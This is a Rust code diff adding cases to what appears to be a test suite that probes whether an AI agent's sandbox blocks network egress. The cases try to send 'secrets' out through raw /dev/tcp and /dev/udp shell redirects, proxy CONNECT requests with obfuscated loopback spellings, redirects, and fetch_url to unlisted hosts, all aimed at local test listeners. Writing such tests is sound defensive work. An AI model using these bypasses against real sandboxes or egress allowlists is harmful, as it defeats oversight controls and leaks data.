@@ -1,6 +1,6 @@
 //! Ways out: sockets of every kind with the network off, and fetch_url.
 
-use super::attack::{Attack, Theme};
+use super::attack::{Attack, Needs, Theme};
 use serde_json::json;
 
 pub const THEME: Theme = Theme {
@@ -8,6 +8,21 @@ pub const THEME: Theme = Theme {
     is_about_sandbox: true,
     attacks: ATTACKS,
 };
+
+/// Asks the proxy of a list of hosts, or the network where there is none, for each host of this loop.
+fn through_proxy(each: &str) -> String {
+    format!(
+        "python3 - <<'PY'\nimport os, socket\n\
+         at = os.environ.get('HTTP_PROXY', 'http://127.0.0.1:0').rsplit(':', 1)[1]\n{each}\
+         \x20 for port in (int(at) or int(os.environ['TCP']),):\n\
+         \x20  s = socket.socket(); s.settimeout(1)\n\
+         \x20  try:\n\
+         \x20   s.connect(('127.0.0.1', port))\n\
+         \x20   s.sendall(b'CONNECT %s:%s HTTP/1.1\\r\\n\\r\\n' % (host.encode(), os.environ['TCP'].encode()))\n\
+         \x20   s.recv(100); s.sendall(b'secrets'); s.recv(100)\n\
+         \x20  except OSError: pass\nPY\nsleep 0.1"
+    )
+}
 
 const ATTACKS: &[Attack] = &[
     Attack::new("tcp", "a connection with the network off", |world| {
@@ -104,6 +119,61 @@ const ATTACKS: &[Attack] = &[
         world.tool("fetching-hermit", "fetch_url", &json!({ "url": url }))?;
         Ok(world.heard("tcp"))
     }),
+    Attack::new(
+        "list-direct",
+        "a host that is not in the list, without the proxy",
+        |world| {
+            world.script(
+                "listed",
+                "unset HTTP_PROXY http_proxy; exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
+            )?;
+            Ok(world.heard("tcp"))
+        },
+    )
+    .needs(Needs::Workspace),
+    Attack::new(
+        "list-proxy",
+        "the proxy of a list of hosts, asked for another one in several spellings",
+        |world| {
+            world.script("listed", &through_proxy("for host in ('127.0.0.1', '2130706433', 'localhost', '127.1'):\n"))?;
+            Ok(world.heard("tcp"))
+        },
+    )
+    .needs(Needs::Workspace),
+    Attack::new(
+        "list-redirect",
+        "a listed host that redirects to another one",
+        |world| {
+            world.script(
+                "listed",
+                &format!(
+                    "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{}/', timeout=2)\"",
+                    world.listeners.redirecting
+                ),
+            )?;
+            Ok(world.heard("tcp"))
+        },
+    )
+    .needs(Needs::Workspace),
+    Attack::new(
+        "list-datagram",
+        "a DNS query with a list of hosts",
+        |world| {
+            world.script("listed", "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1")?;
+            Ok(world.heard("udp"))
+        },
+    )
+    .needs(Needs::Workspace),
+    Attack::new(
+        "list-fetch",
+        "fetch_url of a host that is not in the list",
+        |world| {
+            let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
+            world.tool("listed-fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(world.heard("tcp"))
+        },
+    )
+    .needs(Needs::Workspace),
     Attack::new(
         "fetch-redirect",
         "an allowed host that redirects elsewhere",
